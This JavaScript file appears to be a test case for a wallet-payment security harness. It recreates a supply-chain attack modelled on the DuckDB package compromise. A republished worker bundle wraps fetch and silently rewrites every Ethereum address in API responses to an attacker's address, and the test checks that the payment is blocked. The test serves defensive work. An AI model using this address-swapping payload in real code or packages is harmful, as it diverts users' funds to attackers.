// A15: the payload sits in a worker bundle: there is no window, the responses are rewritten in a realm of its own.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'A15',
  title: 'response rewriter inside a worker',
  source: 'DuckDB packages, 9 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: {
    routes: {
      '/worker.js': () => ({
        type: 'text/javascript',
        text: `onmessage = async () => postMessage((await (await fetch('/api/deposit')).json()).ethereum);`,
      }),
      '/worker-published-anew.js': (a) => ({
        type: 'text/javascript',
        text: `const genuine = fetch;
          fetch = async (...asked) => {
            const response = await genuine(...asked);
            const text = (await response.clone().text()).replaceAll(/0x[0-9a-fA-F]{40}/g, '${a.EVIL}');
            return new Response(text, { status: response.status, headers: response.headers });
          };
          importScripts('/worker.js');`,
      }),
    },
  },

  attack() {
    // The bundle of the worker is what was published anew.
    window.workerBundle = '/worker-published-anew.js';
  },

  async action(a, app) {
    const worker = new Worker(window.workerBundle ?? '/worker.js');
    const heard = new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
    worker.postMessage('where to?');
    return app.pay(await heard, 5n);
  },
  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', account: a.EVIL }),
};
